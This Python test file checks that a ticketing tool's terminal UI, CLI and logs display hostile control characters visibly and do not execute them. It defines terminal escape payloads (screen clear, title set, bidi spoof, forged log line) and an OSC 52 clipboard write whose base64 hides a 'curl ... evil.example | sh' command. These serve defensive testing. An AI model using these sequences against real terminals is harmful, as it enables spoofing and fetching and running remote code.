"""Text written by strangers (sites, certificates, mail) never acts on the agent's terminal:
the one display rule shows control characters, C1 controls and bidi overrides visibly."""

from __future__ import annotations

import io
import json
import logging
import subprocess
import sys
from datetime import UTC, datetime

from test_tui import NOW, SIZE, make_app, open_case, settle

from ronda.app.runtime import VisibleFormatter
from ronda.display import visible, visible_tree
from ronda.model import FailureClass, Impact, Priority, Source
from ronda.store import Store
from ronda.tickets import Desk

# What attackers were seen sending: clear screen and a fake prompt, the window title, the
# agent's clipboard, a C1 CSI, a bidi override, a NUL.
CLEAR = "\x1b[2J\x1b[H$ "
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
C1 = "\x9b31m"
BIDI = "fdp.\u202egnp"
NUL = "a\x00b"
PAYLOADS = (CLEAR, TITLE, CLIPBOARD, C1, BIDI, NUL)
RAW = ("\x1b[2J", "\x1b]0;", "\x1b]52;", "\x9b", "\u202e", "\x00", "\x07")


def test_controls_are_shown_not_obeyed() -> None:
    assert visible(CLEAR) == "\\x1b[2J\\x1b[H$ "
    assert visible(CLIPBOARD).startswith("\\x1b]52;c;") and visible(CLIPBOARD).endswith("\\x07")
    assert visible(C1) == "\\x9b31m"
    assert visible(BIDI) == "fdp.<U+202E>gnp"
    assert visible(NUL) == "a\\x00b"
    assert visible("línea 1\nlínea 2\tfin") == "línea 1\\x0alínea 2\\x09fin"
    assert visible("línea 1\nlínea 2\tfin", lines=True) == "línea 1\nlínea 2\tfin"


def test_ordinary_text_passes_unchanged() -> None:
    for text in ("Ferretería López", "[b]markup[/b]", "café ☕ 日本語", "a\u00a0b", ""):
        assert visible(text) == text


def test_evidence_trees_are_cleaned_keys_and_values() -> None:
    tree = {"headers": {"x-\x1bkey": "v\x1b[2J", "n": 3}, "list": ["\u202e", None]}
    assert visible_tree(tree) == {
        "headers": {"x-\\x1bkey": "v\\x1b[2J", "n": 3},
        "list": ["<U+202E>", None],
    }


def _hostile_desk(store: Store) -> None:
    desk = Desk(store, clock=lambda: NOW)
    ticket = desk.open_ticket(
        source=Source.PROBE,
        subject=f"shop: HTTP 500 {CLEAR}{TITLE}",
        priority=Priority.HIGH,
        impact=Impact.HIGH,
        actor="probe",
        failure_class=FailureClass.HTTP_500,
        site=f"shop{C1}",
        customer=f"ACME {BIDI}",
        evidence={
            "url": "https://shop.acme.test/",
            "status_code": 500,
            "headers": {"server": f"nginx{CLIPBOARD}", "location": f"/x{TITLE}"},
            "cert": {"subject": f"CN=shop{TITLE}", "issuer": f"CN=evil{NUL}"},
            "body_excerpt": f"<title>{CLEAR}</title>",
            "checked_at": datetime(2026, 11, 25, 14, 59, tzinfo=UTC).isoformat(),
        },
    )
    desk.record(ticket.id, "probe", "recurrence", f"still failing {CLIPBOARD}{C1}")


def _terminal_output(app) -> str:  # type: ignore[no-untyped-def]
    """Exactly what the app would write to the terminal for a full repaint now."""
    update = app.screen._compositor.render_update(full=True)
    return update.render_segments(app.console)


async def test_no_control_character_reaches_the_rendered_screen(store: Store) -> None:
    _hostile_desk(store)
    app = make_app(store)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot, lambda: bool(app.screen.query("QueueTable")))
        queue = _terminal_output(app)
        assert "<U+202E>" in queue  # the garbage is visible as text
        screen = await open_case(pilot, "R-1001")
        assert screen.detail is not None
        ticket_screen = _terminal_output(app)
        assert "\\x1b]52;c;" in ticket_screen and "<U+202E>" in ticket_screen
    for output in (queue, ticket_screen):
        for raw in RAW:
            assert raw not in output, repr(raw)


def _ronda(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "ronda", *args], capture_output=True, timeout=60, check=False
    )


def test_the_cli_prints_hostile_text_visibly_and_json_exactly(store: Store) -> None:
    _hostile_desk(store)
    shown = _ronda("tickets", "show", "R-1001", "--db", str(store.path))
    listed = _ronda("tickets", "list", "--db", str(store.path))
    missing = _ronda("tickets", "show", f"R-9{CLEAR}", "--db", str(store.path))
    assert shown.returncode == 0 and listed.returncode == 0 and missing.returncode == 1
    for output in (shown.stdout, listed.stdout, missing.stderr):
        text = output.decode()
        for raw in RAW:
            assert raw not in text, (raw, text)
    assert "\\x1b]52;c;" in shown.stdout.decode() and "<U+202E>" in shown.stdout.decode()
    assert "\\x1b[2J" in missing.stderr.decode()
    as_json = _ronda("tickets", "show", "R-1001", "--db", str(store.path), "--json")
    assert not any(raw in as_json.stdout.decode() for raw in RAW)
    data = json.loads(as_json.stdout)
    assert data["subject"] == f"shop: HTTP 500 {CLEAR}{TITLE}"  # the exact value
    assert data["evidence"]["headers"]["server"] == f"nginx{CLIPBOARD}"


def test_a_log_line_shows_hostile_text_and_stays_one_line() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(VisibleFormatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("ronda.test.hostile")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("R-1001 opened: %s", f"title{TITLE}\n2026-12-01 INFO forged line{C1}")
        try:
            raise ValueError(f"bad Location {TITLE!r} {CLEAR}")
        except ValueError:
            logger.exception("probe failed")
    finally:
        logger.removeHandler(handler)
    first, _, traceback = stream.getvalue().partition("\n")
    assert "\\x1b[2J" in traceback and "Traceback (most recent call last)" in traceback
    assert not any(raw in traceback for raw in RAW)
    line = first + "\n"
    assert line.count("\n") == 1 and line.endswith("\n")
    assert "\\x1b]0;pwned\\x07\\x0a2026-12-01 INFO forged line\\x9b31m" in line
    assert not any(raw in line for raw in RAW)
